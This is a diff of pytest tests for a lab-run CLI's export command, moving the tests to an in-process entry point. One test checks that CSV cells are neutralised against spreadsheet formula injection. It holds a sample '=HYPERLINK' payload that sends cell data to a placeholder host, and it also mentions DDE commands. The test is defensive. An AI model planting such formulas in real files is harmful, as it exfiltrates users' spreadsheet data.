@@ -13,7 +13,7 @@ import typer
 from typer.testing import CliRunner
 
 from castrig.errors import BadInput
-from conftest import castrig, signal_hook, start_castrig, stopped, wait_until, with_sitecustomize
+from conftest import castrig, castrig_main, signal_hook, start_castrig, stopped, wait_until, with_sitecustomize
 from castrig.store import RunInfo, SqliteRunStore
 from castrig.store.export import export_run, format_bound, verdict_rows
 
@@ -134,17 +134,16 @@ def test_verdict_shapes():
 
 
 @pytest.mark.parametrize("fmt", ["csv", "parquet"])
-def test_a_run_without_membranes_exports_every_table(tmp_path: Path, fmt: str, request: pytest.FixtureRequest):
+def test_a_run_without_membranes_exports_every_table(tmp_path: Path, fmt: str, request: pytest.FixtureRequest, capsys):
     """A purge-only run (or one that crashed before its first cast) exported only samples, events
     and metrics: exports of many runs, concatenated table by table, then missed two files. Every
-    table is written, with its header when it has no rows."""
-    from conftest import castrig
-
+    table is written, with its header when it has no rows. (The exports through the CLI's entry
+    point in this process, conftest ``castrig_main``.)"""
     recipe = tmp_path / "purge.yaml"
     recipe.write_text("name: purge\nconcentration_mg_ml: 5.0\nsupport_pore_um: 5.0\nsteps:\n  - {type: purge, duration_s: 60}\n")
     assert castrig("run", str(recipe), "--data", str(tmp_path / "runs"), "-q").returncode == 0
     (run,) = [p for p in (tmp_path / "runs").iterdir() if p.is_dir()]
-    done = castrig("export", str(run), "--to", str(tmp_path / "out"), "--format", fmt)
+    done = castrig_main(capsys, "export", str(run), "--to", str(tmp_path / "out"), "--format", fmt)
     assert done.returncode == 0, done.stderr
     assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted(
         f"{t}.{fmt}" for t in ("samples", "events", "metrics", "verdict", "membranes", "images"))
@@ -159,20 +158,18 @@ def test_a_run_without_membranes_exports_every_table(tmp_path: Path, fmt: str, r
         # a run with membranes: the session's finished demo run (it was a demo-short run of its own)
         demo_root, demo_id = request.getfixturevalue("finished_demo_run")
         full = demo_root / demo_id
-        assert castrig("export", str(full), "--to", str(tmp_path / "out2"), "--format", fmt).returncode == 0
+        assert castrig_main(capsys, "export", str(full), "--to", str(tmp_path / "out2"), "--format", fmt).returncode == 0
         for table in ("verdict", "membranes"):
             empty, made = (pq.read_table(tmp_path / d / f"{table}.parquet") for d in ("out", "out2"))
             assert made.num_rows and pa.concat_tables([made, empty]).num_rows == made.num_rows, table
 
 
-def test_csv_text_a_spreadsheet_would_run_as_a_formula_is_quoted(tmp_path: Path):
+def test_csv_text_a_spreadsheet_would_run_as_a_formula_is_quoted(tmp_path: Path, capsys):
     """An outside tester: a file named ``=HYPERLINK(…)`` given to a run, or a hand-edited recipe
     name, reached events.csv as it was, and Excel or LibreOffice opening the export ran it (a
     link that sends the cell's neighbours away, or a DDE command). Text starting as a formula
     gets a leading ``'``; numbers, negative ones too, stay numbers."""
     import sqlite3
-
-    from conftest import castrig
 
     info = RunInfo(run_id="r1", recipe_name="=1+1", recipe_path="d", profile_name="sim", profile_path="p",
                    software_version="t", seed=1, operator="", started_utc="2026-01-01T00:00:00Z")
@@ -182,13 +179,13 @@ def test_csv_text_a_spreadsheet_would_run_as_a_formula_is_quoted(tmp_path: Path)
         run_dir = rec.run_dir
     with sqlite3.connect(run_dir / "run.sqlite") as db:  # what a hand edit or another tool may leave
         db.execute("INSERT INTO events (t_s, kind, source, message, data_json) VALUES (1, 'note', '@SUM(1)', '-2+3', '{}')")
-    done = castrig("export", str(run_dir), "--to", str(tmp_path / "x"))
+    done = castrig_main(capsys, "export", str(run_dir), "--to", str(tmp_path / "x"))
     assert done.returncode == 0, done.stderr
     events = read_csv(tmp_path / "x" / "events.csv")
     assert [e["message"] for e in events] == ['\'=HYPERLINK("http://example.invalid/?"&A1,"open")', "'-2+3"]
     assert events[1]["source"] == "'@SUM(1)"
     assert read_csv(tmp_path / "x" / "samples.csv")[0]["value"] == "-4.5"
-    again = castrig("export", str(run_dir), "--to", str(tmp_path / "x"))  # its own tables: replaced, not refused
+    again = castrig_main(capsys, "export", str(run_dir), "--to", str(tmp_path / "x"))  # its own tables: replaced, not refused
     assert again.returncode == 0, again.stderr
 
 
